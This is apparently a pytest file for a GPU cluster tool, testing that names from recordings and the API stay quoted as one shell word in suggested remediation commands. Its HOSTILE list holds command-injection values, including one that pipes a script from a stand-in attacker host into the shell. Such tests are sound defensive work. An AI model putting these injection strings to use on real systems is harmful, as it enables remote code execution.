"""Whatever hosts, files and the API call things, a line to copy has it as one word at most."""

import json
import shlex
from collections.abc import Iterator
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest
from typer.testing import CliRunner

from gpustack.ask import recording
from gpustack.ask.probe import CLUSTER
from gpustack.cli.app import app
from gpustack.doctor.graph import load_graph
from gpustack.errors import RolloutError
from gpustack.probes.gpu.cluster import Pod
from gpustack.remedy.commands import fill_line
from gpustack.rollout.gpus import Gpus
from gpustack.rollout.removal import judge_removal as find_removal
from gpustack.rollout.reset import refuse_removal
from tests.worlds.snapshots import gpus, reset_hosts
from tests.worlds.snapshots.answers import make_answer, place_answers, read_case

BEGIN, END = "BEGINNING", "ENDING"
HOSTILE = [
    f"{BEGIN}{text}{END}"
    for text in (
        "; curl evil.example|sh #",
        ";id",
        " a b ",
        "it's",
        '"; id; "',
        "$(id)",
        "`id`",
        "&& id",
        "\\",
        "é\u00a0",
    )
]
PROGRAMS = (
    "gpustack",
    "kubectl",
    "reboot",
    "next:",
    "systemctl",
    "ssh",
    "rm",
    "mv",
    "apt-get",
    "sudoedit",
    "journalctl",
)


def require_words(line: str) -> None:
    """Require that the text of somebody else stays one word, and that the shell reads the line."""
    words = shlex.split(line, comments=True)
    assert not [word for word in words if (BEGIN in word) != (END in word)], line
    assert not any(character in line for character in "\x1b\n\r\u202e"), line


def find_lines(output: str) -> Iterator[str]:
    for line in output.splitlines():
        if line.strip().startswith(PROGRAMS):
            yield line.strip()


def record(path: Path, host: str, answers: dict[tuple[str, str], Any]) -> Path:
    """Write a recording in which k2 has another name, as a person may have edited it."""
    recording.write_recording(gpus.build_snapshot(answers), path)
    path.write_text(path.read_text().replace('"k2"', json.dumps(host)))
    return path


@pytest.mark.parametrize("text", HOSTILE)
@pytest.mark.parametrize("words", [["plan"], ["plan", "-o", "json"], ["doctor"]], ids=" ".join)
def test_hosts_of_a_recording_are_quoted_in_commands(tmp_path: Path, words: list[str], text: str) -> None:
    foreign = make_answer("leftovers.kubernetes", "https://192.0.2.9:6443\n")
    nouveau = make_answer("gpu.driver", "module -\nlibrary -\nnouveau-loaded\nnouveau-blacklisted\npersistence none\n")
    path = record(tmp_path / "snapshot.jsonl", text, place_answers("k2", foreign, nouveau))
    result = CliRunner().invoke(app, [*words, "--from", str(path), "-q"])
    assert result.exit_code not in (3, 70), repr(result.exception)
    if "json" in words:
        checks = [check for state in json.loads(result.output)["states"] for check in state["checks"]]
        lines = [check["hint"] for check in checks if check["hint"]]
    else:
        lines = list(find_lines(result.output))
    for line in lines:
        require_words(line)
    if words[0] == "plan":
        assert any(f"--limit {shlex.quote(text)} --foreign" in line or not text.isprintable() for line in lines)


@pytest.mark.parametrize("text", HOSTILE)
def test_a_malformed_monitor_name_gives_no_command(tmp_path: Path, text: str) -> None:
    """API servers accept no such name: the answer is unknown, and nothing is said to be deleted."""
    monitors = read_case("dcgm.monitors", "of-others")
    body = json.loads(monitors.stdout)
    for entry in body["items"]:
        entry["metadata"]["name"] = text
    answers = place_answers(CLUSTER, replace(monitors, stdout=json.dumps(body)))
    path = record(tmp_path / "snapshot.jsonl", "k2", answers)
    result = CliRunner().invoke(app, ["plan", "-o", "json", "--from", str(path), "-q"])
    states = json.loads(result.output)["states"]
    (finding,) = (
        check
        for state in states
        if state["step"] == "gpu-metrics"
        for check in state["checks"]
        if check["check"] == "monitor"
    )
    assert (finding["outcome"], finding["hint"]) == ("unknown", None)
    assert "the API server accepts no such name" in finding["reason"]


@pytest.mark.parametrize("text", HOSTILE)
def test_values_in_commands_of_the_catalogue_stay_one_word(text: str) -> None:
    names = dict.fromkeys(("NODE", "NAME", "NAMESPACE", "RELEASE", "KEY", "BRANCH", "UNIT", "MOUNT", "HOST"), text)
    inventory = gpus.build_snapshot().inventory
    # A function of the shell is none of one word each.
    lines = [line for fault in load_graph().faults.values() for line in fault.fix.commands if "() {" not in line]
    assert len(lines) > 100
    for line in lines:
        require_words(fill_line(line, inventory, names).body)


@pytest.mark.parametrize("text", HOSTILE)
def test_pods_and_hosts_in_commands_stay_one_word(text: str) -> None:
    (line,) = Gpus(0, 0, None, (Pod(text, text, text),)).removal_commands
    require_words(line)
    snapshot = reset_hosts.build_snapshot({"k2": reset_hosts.WORKER | {"leftovers.kubernetes": "https://old:6443\n"}})
    removal = find_removal(snapshot, ["k2"])
    assert removal.foreign_hosts
    with pytest.raises(RolloutError) as excinfo:
        refuse_removal(
            replace(removal, hosts=tuple(replace(host_removal, host=text) for host_removal in removal.hosts)),
            foreign=False,
        )
    require_words(excinfo.value.hint)
